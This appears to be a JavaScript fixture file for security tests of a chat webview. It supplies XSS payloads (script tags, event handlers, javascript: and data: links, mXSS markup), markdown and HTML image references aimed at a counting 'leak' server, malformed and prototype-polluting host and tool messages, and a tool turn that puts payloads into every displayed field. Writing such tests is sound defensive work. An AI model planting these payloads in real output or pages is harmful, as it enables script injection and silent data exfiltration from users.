// Hostile model output for the chat webview's security tests. Each XSS payload sets its own window flag if it ever
// runs; the image payloads point at a counting server (and at the harness's own origin, which the CSP allows, so
// only the panel's renderer stands between them and a request).
import { message, toolCall, ulid } from './fixtures.mjs';

/** @returns {{ name: string, text: string }[]} payloads; each sets `window.__xss_<name>` when it executes */
export function xssPayloads() {
  const flag = (name) => `window.__xss_${name}=1`;
  return [
    { name: 'script', text: `<script>${flag('script')}</script>` },
    { name: 'img_onerror', text: `<img src=x onerror="${flag('img_onerror')}">` },
    { name: 'iframe_srcdoc', text: `<iframe srcdoc="<script>parent.${flag('iframe_srcdoc')}</script>"></iframe>` },
    { name: 'svg_onload', text: `<svg onload="${flag('svg_onload')}"><circle r=1 /></svg>` },
    { name: 'svg_script', text: `<svg><script>${flag('svg_script')}</script></svg>` },
    { name: 'html_js_link', text: `<a href="javascript:${flag('html_js_link')}">click me html</a>` },
    { name: 'md_js_link', text: `[click me md](javascript:${flag('md_js_link')})` },
    { name: 'md_js_link_entity', text: `[click me entity](jav&#x09;ascript:${flag('md_js_link_entity')})` },
    { name: 'md_js_ref', text: `[click me ref][evil]\n\n[evil]: javascript:${flag('md_js_ref')}` },
    { name: 'md_js_autolink', text: `<javascript:${flag('md_js_autolink')}>` },
    { name: 'md_data_link', text: `[click me data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3NfbWRfZGF0YV9saW5rPTE8L3NjcmlwdD4=)` },
    { name: 'html_data_link', text: `<a href="data:text/html,<script>${flag('html_data_link')}</script>">click me data html</a>` },
    { name: 'details_toggle', text: `<details open ontoggle="${flag('details_toggle')}"><summary>x</summary></details>` },
    { name: 'math', text: `<math><mtext><table><mglyph><style><img src=x onerror="${flag('math')}">` },
    { name: 'object', text: `<object data="javascript:${flag('object')}"></object><embed src="javascript:${flag('object')}">` },
    { name: 'form', text: `<form action="javascript:${flag('form')}"><button>submit</button></form>` },
    { name: 'meta', text: `<meta http-equiv="refresh" content="0;url=javascript:${flag('meta')}">` },
    { name: 'fence_info', text: `\`\`\`"><img src=x onerror="${flag('fence_info')}">\nconsole.log(1)\n\`\`\`` },
    { name: 'code_html', text: `\`\`\`html\n<script>${flag('code_html')}</script>\n\`\`\`` },
    { name: 'style_attr', text: `<div style="background:url(javascript:${flag('style_attr')})">styled</div>` },
  ];
}

/** Everything in one reply, ending with a marker the test waits for. */
export function xssReply() {
  return `${xssPayloads().map((p) => `Payload ${p.name}:\n\n${p.text}\n`).join('\n')}\nEND-OF-PAYLOADS`;
}

/**
 * Image references to `leak` (the counting server) and `sameOrigin` (the harness origin, allowed by the CSP).
 * Every one of them must stay a request that never happens.
 */
export function imageReply(leak, sameOrigin) {
  return [
    `![secret alt](${leak}/leak-md?q=secret)`,
    `![same origin](${sameOrigin}/leak-same-origin)`,
    `![ref image][pic]\n\n[pic]: ${leak}/leak-ref`,
    `<img src="${leak}/leak-html" alt="html img">`,
    `<img src="${sameOrigin}/leak-html-same-origin">`,
    `<picture><source srcset="${leak}/leak-srcset"><img src="${leak}/leak-picture"></picture>`,
    `<video poster="${leak}/leak-poster"></video><audio src="${leak}/leak-audio"></audio>`,
    `<div style="background-image:url(${sameOrigin}/leak-css)">css</div>`,
    `<link rel="stylesheet" href="${leak}/leak-link"><input type="image" src="${leak}/leak-input">`,
    `<table background="${leak}/leak-table"><tr><td>t</td></tr></table>`,
    `[![nested](${leak}/leak-nested)](https://example.com/)`,
    'END-OF-IMAGES',
  ].join('\n\n');
}

/**
 * Host messages a broken or hostile sender might post: wrong shapes, unknown methods, huge ids, prototype keys,
 * ids the panel never saw, and a parent cycle. `valid` is a well-formed user message to mutate.
 */
export function garbageHostMessages(valid) {
  const event = (method, params) => ({ kind: 'event', event: { method, params } });
  return [
    null, 42, 'text', [], {}, { kind: 'event' }, { kind: 'event', event: null }, event('chat/message', null),
    event('chat/message', { id: {}, role: 'user' }), event('chat/message', { ...valid, role: 'evil' }),
    event('chat/message', { ...valid, text: 12 }), event('chat/message', { ...valid, id: 'x'.repeat(100_000) }),
    event('chat/delta', { id: ulid(999), text: 'ghost' }), event('chat/delta', { id: ulid(2), text: 42 }),
    event('chat/leaf', { leafId: 'x'.repeat(10_000) }), event('chat/leaf', { leafId: ulid(777) }),
    event('__proto__', {}), event('constructor', { x: 1 }), event('chat/session', { session: 'nope' }),
    event('chat/streaming', { streamingId: 5 }), { kind: 'snapshot', snapshot: null }, { kind: 'snapshot', snapshot: { messages: 'no' } },
    { kind: 'response', id: 12345, result: {} }, { kind: 'error', id: 'x', error: null },
    JSON.parse(`{"kind":"event","event":{"method":"chat/message","params":{"__proto__":{"polluted":true},"id":"${ulid(60)}"}}}`),
    // A parent cycle: two messages that are each other's parent must not hang the path walk.
    event('chat/message', message({ id: ulid(70), parentId: ulid(71), text: 'cycle a' })),
    event('chat/message', message({ id: ulid(71), parentId: ulid(70), text: 'cycle b' })),
    event('chat/leaf', { leafId: ulid(70) }),
  ];
}

/**
 * Broken or hostile tool events and snapshots (`chat/tool`, `chat/toolOutput`, `chat/pending`): wrong shapes,
 * unknown states and kinds, ids that are not ids, huge values, prototype keys. `messageId` is a tool message the
 * panel shows.
 */
export function garbageToolMessages(messageId) {
  const event = (method, params) => ({ kind: 'event', event: { method, params } });
  const call = { id: 'call_x', name: 'read_file', summary: 'Read x', state: 'completed' };
  const approval = { tool: 'write_file', summary: 'Write x', arguments: '{}', reasons: [], canApproveForSession: true };
  return [
    event('chat/tool', null), event('chat/tool', { messageId }), event('chat/tool', { messageId, call: null }),
    event('chat/tool', { messageId, call: { ...call, state: 'exploded' } }), event('chat/tool', { messageId, call: { ...call, id: 'has space' } }),
    event('chat/tool', { messageId, call: { ...call, id: 'x'.repeat(10_000) } }), event('chat/tool', { messageId, call: { ...call, summary: 42 } }),
    event('chat/tool', { messageId: 'x'.repeat(10_000), call }), event('chat/tool', { messageId, call: { ...call, name: ['read_file'] } }),
    event('chat/tool', { messageId, call: { ...call, id: 'call_odd', result: 'done', approval: 'yes', decidedBy: 'the model' } }),
    event('chat/tool', { messageId, call: { ...call, id: 'call_files', result: { text: 5, files: { path: 'x' }, exitCode: 'one', durationMs: -1 } } }),
    event('chat/toolOutput', { messageId, callId: 'call_x', text: 7 }), event('chat/toolOutput', { messageId, text: 'no call' }),
    event('chat/toolOutput', { messageId, callId: 'call x', text: 'space' }),
    event('chat/pending', null), event('chat/pending', { pending: 'nope' }), event('chat/pending', { pending: {} }),
    event('chat/pending', { pending: [{ kind: 'evil', id: ulid(901), messageId }] }),
    event('chat/pending', { pending: [{ kind: 'approval', id: 'x'.repeat(100), messageId, callId: 'call_x', approval }] }),
    event('chat/pending', { pending: [{ kind: 'approval', id: ulid(902), messageId, callId: 'call_x', approval: { ...approval, tool: null } }] }),
    event('chat/pending', { pending: [{ kind: 'limit', id: ulid(903), messageId, reached: 25 }] }),
    JSON.parse(`{"kind":"event","event":{"method":"chat/tool","params":{"messageId":"${messageId}","call":{"__proto__":{"polluted":true},"id":"call_p"}}}}`),
    JSON.parse(`{"kind":"event","event":{"method":"chat/pending","params":{"pending":[{"__proto__":{"polluted":true},"kind":"limit"}]}}}`),
  ];
}

/**
 * A tool turn whose every shown string is a payload: call summaries, tool names, arguments, results, file names,
 * and an approval card's summary, reasons, diff, path, command line, cwd, sub-commands, rules and URL, plus a limit
 * card's words. Returns the messages, the pending list and the texts that must show up as text.
 */
export function xssToolTurn() {
  const payloads = xssPayloads().map((p) => p.text);
  const pick = (i) => payloads[i % payloads.length];
  const [user, step, tool] = [ulid(1), ulid(2), ulid(3)];
  const calls = payloads.map((text, i) => ({ id: `call_${i}`, name: i === 0 ? text : 'run_command', arguments: JSON.stringify({ command: text }) }));
  const messages = [
    message({ id: user, text: 'Run something nasty' }),
    message({ id: step, parentId: user, role: 'assistant', text: '', toolCalls: calls }),
    message({
      id: tool,
      parentId: step,
      role: 'tool',
      tools: payloads.map((text, i) =>
        toolCall({
          id: `call_${i}`,
          name: calls[i].name,
          summary: text,
          state: i === 1 ? 'running' : 'failed',
          output: i === 1 ? text : undefined,
          result: i === 1 ? undefined : { text, isError: true, exitCode: 1, files: [{ path: text, change: i % 2 ? 'created' : 'modified' }] },
        }),
      ),
    }),
  ];
  const diff = ['--- a/x', '+++ b/x', '@@ -1,2 +1,2 @@', ...payloads.flatMap((text) => [`-${text}`, `+${text}`]), ''].join('\n');
  const pending = [
    {
      kind: 'approval', id: ulid(800), messageId: tool, callId: 'call_0',
      approval: {
        tool: pick(0), summary: pick(1), arguments: JSON.stringify({ all: payloads }), reasons: payloads,
        edit: { path: pick(2), diff, created: true },
        command: {
          line: payloads.join(' && '), cwd: pick(3),
          subcommands: payloads.map((text, i) => ({ text, verdict: ['allow', 'ask', 'deny', 'default'][i % 4], reason: pick(i + 1), rule: pick(i + 2) })),
        },
        url: `javascript:window.__xss_url=1`,
        canApproveForSession: true,
      },
    },
    { kind: 'limit', id: ulid(801), messageId: tool, reached: pick(4), more: pick(5) },
  ];
  return { messages, pending, texts: payloads };
}
